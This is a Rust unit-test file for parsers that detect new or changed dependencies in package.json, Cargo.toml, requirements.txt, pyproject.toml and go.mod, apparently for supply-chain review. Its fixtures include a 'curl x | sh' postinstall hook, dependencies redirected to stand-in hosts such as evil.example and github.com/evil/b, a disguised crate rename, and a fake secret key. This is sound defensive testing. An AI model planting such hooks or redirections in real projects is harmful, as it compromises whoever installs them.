//! Unit tests of the manifest parsers: one per ecosystem and per hostile shape.

use super::*;

fn names(path: &str, old: Option<&str>, new: &str) -> Vec<(String, String, DepChange)> {
    new_dependencies(path, old.map(str::as_bytes), Some(new.as_bytes()))
        .unwrap()
        .into_iter()
        .map(|d| (d.section, d.name, d.change))
        .collect()
}

#[test]
fn package_json_lists_added_and_changed_names_per_section() {
    let old = r#"{"name":"x","dependencies":{"left-pad":"1.0.0"},"devDependencies":{"jest":"29"}}"#;
    let new = r#"{"name":"x","dependencies":{"left-pad":"1.0.0","event-stream":"3.3.6"},
        "devDependencies":{"jest":"git+https://evil.example/jest.git"}}"#;
    assert_eq!(
        names("web/package.json", Some(old), new),
        vec![
            (
                "dependencies".into(),
                "event-stream".into(),
                DepChange::Added
            ),
            ("devDependencies".into(), "jest".into(), DepChange::Changed),
        ]
    );
}

#[test]
fn package_json_scripts_are_not_dependencies() {
    let new = r#"{"scripts":{"postinstall":"curl x | sh"}}"#;
    assert!(names("package.json", Some("{}"), new).is_empty());
}

#[test]
fn new_package_json_lists_everything() {
    let new = r#"{"dependencies":{"a":"1","b":"2"}}"#;
    assert_eq!(names("package.json", None, new).len(), 2);
}

#[test]
fn cargo_toml_sections_targets_workspace_and_renames() {
    let old = "[package]\nname='x'\n[dependencies]\nserde = \"1\"\n";
    let new = "[package]\nname='x'\n[dependencies]\nserde = \"1\"\nevil = { package = \"serde-json\", version = \"1\" }\n\
               [dev-dependencies]\nproptest = \"1\"\n[build-dependencies]\ncc = { git = \"https://example.invalid/cc\" }\n\
               [target.'cfg(unix)'.dependencies]\nlibc = \"0.2\"\n[workspace.dependencies]\ntokio = \"1\"\n";
    let got = names("crates/x/Cargo.toml", Some(old), new);
    let want: Vec<(String, String, DepChange)> = vec![
        ("build-dependencies".into(), "cc".into(), DepChange::Added),
        (
            "dependencies".into(),
            "evil (package serde-json)".into(),
            DepChange::Added,
        ),
        (
            "dev-dependencies".into(),
            "proptest".into(),
            DepChange::Added,
        ),
        (
            "target.cfg(unix).dependencies".into(),
            "libc".into(),
            DepChange::Added,
        ),
        (
            "workspace.dependencies".into(),
            "tokio".into(),
            DepChange::Added,
        ),
    ];
    assert_eq!(got, want);
}

#[test]
fn cargo_version_bump_is_a_change() {
    let got = names(
        "Cargo.toml",
        Some("[dependencies]\nrand = \"0.8\"\n"),
        "[dependencies]\nrand = \"0.9\"\n",
    );
    assert_eq!(
        got,
        vec![("dependencies".into(), "rand".into(), DepChange::Changed)]
    );
}

#[test]
fn requirements_txt_names_are_pep503_normalised_and_options_skipped() {
    let old = "requests==2.31.0\n";
    let new = "# pinned\nrequests==2.31.0\n-r base.txt\n--extra-index-url https://x.invalid\n\
               Python_Dateutil>=2.8 ; python_version > '3.8'\nurllib3 # comment\n\nfoo @ https://x.invalid/foo.whl\n";
    let got = names("requirements-dev.txt", Some(old), new);
    let got: Vec<String> = got.into_iter().map(|(_, n, _)| n).collect();
    assert_eq!(got, vec!["foo", "python-dateutil", "urllib3"]);
}

#[test]
fn pyproject_project_extras_groups_and_poetry() {
    let new = r#"
[project]
name = "x"
dependencies = ["httpx>=0.27", "Rich"]
[project.optional-dependencies]
cli = ["click"]
[dependency-groups]
dev = ["pytest"]
[tool.poetry.dependencies]
python = "^3.11"
Django = "^5"
[tool.poetry.group.docs.dependencies]
mkdocs = "*"
"#;
    let got: Vec<String> = names("pyproject.toml", None, new)
        .into_iter()
        .map(|(s, n, _)| format!("{s}:{n}"))
        .collect();
    assert_eq!(
        got,
        vec![
            "dependency-groups.dev:pytest",
            "project.dependencies:httpx",
            "project.dependencies:rich",
            "project.optional-dependencies.cli:click",
            "tool.poetry.dependencies:django",
            "tool.poetry.group.docs.dependencies:mkdocs",
        ]
    );
}

#[test]
fn go_mod_require_and_replace_single_and_block() {
    let old = "module x\n\ngo 1.22\n\nrequire github.com/a/b v1.0.0\n";
    let new = "module x\n\ngo 1.22\n\nrequire github.com/a/b v1.0.0\nrequire (\n\tgithub.com/c/d v0.1.0 // indirect\n\tgolang.org/x/sys v0.20.0\n)\nreplace github.com/a/b => github.com/evil/b v1.0.1\n";
    let got = names("go.mod", Some(old), new);
    assert_eq!(
        got,
        vec![
            ("replace".into(), "github.com/a/b".into(), DepChange::Added),
            ("require".into(), "github.com/c/d".into(), DepChange::Added),
            (
                "require".into(),
                "golang.org/x/sys".into(),
                DepChange::Added
            ),
        ]
    );
}

#[test]
fn unparsable_new_manifest_is_an_error_naming_no_content() {
    let e = new_dependencies(
        "package.json",
        None,
        Some(b"{\"dependencies\": {\"sk_live_x\""),
    )
    .unwrap_err();
    assert!(e.to_string().contains("deps.unparsed"), "{e}");
    assert!(!e.to_string().contains("sk_live_x"), "{e}");
    let e = new_dependencies("Cargo.toml", None, Some(b"[dependencies\nsecret=1")).unwrap_err();
    assert!(!e.to_string().contains("secret"), "{e}");
}

#[test]
fn other_files_and_deletions_list_nothing() {
    assert!(new_dependencies("src/main.rs", None, Some(b"fn main(){}"))
        .unwrap()
        .is_empty());
    assert!(new_dependencies("package.json", Some(b"{}"), None)
        .unwrap()
        .is_empty());
    assert!(ecosystem_of("a/requirements.in").is_some());
    assert!(ecosystem_of("requirements.txt").is_some());
    assert!(ecosystem_of("requirements.md").is_none());
}
